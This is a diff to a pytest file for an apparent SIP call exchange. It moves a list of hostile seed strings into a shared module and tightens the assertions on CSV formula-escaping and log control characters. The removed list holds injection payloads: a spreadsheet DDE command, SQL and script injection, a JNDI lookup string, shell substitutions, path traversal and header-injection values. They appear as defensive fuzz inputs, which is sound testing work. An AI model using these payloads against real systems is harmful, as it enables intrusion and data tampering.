@@ -3,27 +3,13 @@
 by no spreadsheet; nothing breaks and nobody waits."""
 import csv
 import io
-import random
 import re
 import urllib.parse
 
 import exchange as exchange_module
 import pytest
 import raw_sip
-
-STRINGS = 500
-SEEDS = ["=1+1", "=HYPERLINK(\"http://x.example\",\"y\")", "+34=cmd|'/C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "' OR '1'='1", "\"; DROP TABLE calls; --", "1 UNION SELECT 1",
-         "%00", "\x00", "\x01\x02", "\x1b[31mred", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{login}}", "${jndi:ldap://x.example/a}", "$(id)", "`id`", "../../etc/passwd",
-         "\u202egnp.exe", "\ufeffx", "\u0000", "Ω≈ç√∫", "田中さん", "👩‍👩‍👧", "é" * 300, "a" * 5000, "\\", "\\\\\"", "\"", "\"\"", "''", ",;,", "a\nb", "a\r\nVia: x", "%0d%0aBcc: x", "null", "NaN", "true",
-         "-1", "9" * 40, "1e400", "\xff\xfe", "\xc3\x28", " ", "", "*", "#", "sip:x@y", "<>", "a" * 64 + "\u0301"]
-
-
-def strings():
-    """The same ones every time: each seed alone, then pairs of them."""
-    luck = random.Random(4)
-    yield from SEEDS
-    for _ in range(STRINGS - len(SEEDS)):
-        yield luck.choice(SEEDS) + luck.choice(["", " ", "\t", "\n", ","]) + luck.choice(SEEDS)
+from hostile_text import STRINGS, is_formula, strings, unguarded, unsound_lines
 
 
 @pytest.fixture(scope="module")
@@ -67,10 +53,6 @@ def texts_in(value):
             yield from texts_in(each)
 
 
-def is_formula(cell):
-    return re.match(r"[\s]*[=+\-@]", cell) is not None or cell[:1] in ("\t", "\r")
-
-
 def test_what_callers_write_is_text(exchange, monkeypatch):
     monkeypatch.setattr(raw_sip.Socket, "final", impatient(raw_sip.Socket.final))
     answers = [call(exchange, number, said) for number, said in enumerate(strings())]
@@ -93,7 +75,7 @@ def test_what_callers_write_is_text(exchange, monkeypatch):
         for name in ("caller", "callee", "callId"):
             cell = rows[record["id"]][name]
             assert not is_formula(cell), cell
-            assert cell in (record[name], "'" + record[name]), (cell, record[name])
+            assert unguarded(cell) == record[name], (cell, record[name])
 
 
 def impatient(final):
@@ -102,7 +84,8 @@ def impatient(final):
 
 
 def test_the_log_has_no_control_characters(exchange):
-    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", exchange.log().replace("\r\n", "\n"))
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", exchange.log())
+    assert not unsound_lines(exchange.log())
 
 
 def test_traces_and_live_lists_are_sound_too(exchange):
